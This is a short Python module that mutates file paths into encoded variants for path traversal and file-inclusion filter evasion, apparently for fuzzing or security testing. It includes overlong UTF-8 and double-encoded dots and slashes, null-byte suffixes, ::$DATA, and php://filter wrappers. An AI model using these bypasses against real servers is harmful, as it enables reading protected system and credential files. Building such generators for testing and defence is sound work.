"""Paths that resolve to the same file (RFC 3986 section 5.2.4, Windows and servlet rules), and ways to write dots and separators."""

import re


def _word(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(1, 8)))


def separators(text, rng):
    new = rng.choice(("\\", "//", "/./", "%2f", "%5c", "\\/", "/\\", "%252f", "/.//", "%c0%af", "\\\\", "///", "/;/", "%2f%2f", "/" + _word(rng) + "/../", "/.;/", "%255c", "%u2215", "%c1%9c", "\u2215", "0x2f"))
    return text.replace("/", new) if rng.random() < 0.6 else re.sub("/", lambda m: new if rng.random() < 0.5 else "/", text)


def dots(text, rng):
    new = rng.choice(("%2e%2e", ".%2e", "%2e.", "%252e%252e", "..;", "%c0%ae%c0%ae", "....", "..\\.", "%u002e%u002e", "..%00", "\uff0e\uff0e", "%uff0e%uff0e", "..%0d", ".%00.", "%%32%65%%32%65", "..%01", "0x2e0x2e", "%e0%80%ae%e0%80%ae", ".?", "..."))
    return text.replace("..", new)


def depth(text, rng):
    unit = re.search(r"\.\.[/\\]", text)
    return text[:unit.start()] + unit.group() * rng.randrange(1, 9) + text[unit.start():] if unit else text


def before(text, rng):
    return rng.choice(("/", "./", "images/", f"{_word(rng)}/", f"/var/www/{_word(rng)}/", "file://", "file:///", "c:/", "C:\\", "/./", "//", "\\\\", "....//", f"{_word(rng)}.php/", "/static/", "php://filter/convert.base64-encode/resource=", "php://filter/read=string.rot13/resource=", "zip://", "/%5c../", "..;/", "url:file:", "netdoc://", f"{_word(rng)}%00", "\x00", "/~/")) + text


def after(text, rng):
    return text + rng.choice(("%00", "\x00", "%00.jpg", "\x00.png", "%00.html", "?", "#", ".", "/", "::$DATA", "%20", ";.jpg", "/.", "%0a", "?.txt", "%23", "....", "/" * rng.randrange(1, 60), "/." * rng.randrange(1, 60), f"&{_word(rng)}=1", "%2500.jpg"))


def case(text, rng):
    if re.search(r"(?i)win|boot|inetpub|\\", text):
        return "".join(char.swapcase() if rng.random() < 0.4 else char for char in text)
    return text


CHANGES = (separators, separators, dots, dots, depth, before, after, case)


def rewrite(text, rng):
    for change in rng.sample(CHANGES, rng.randrange(1, 4)):
        text = change(text, rng)[:4000]
    return text
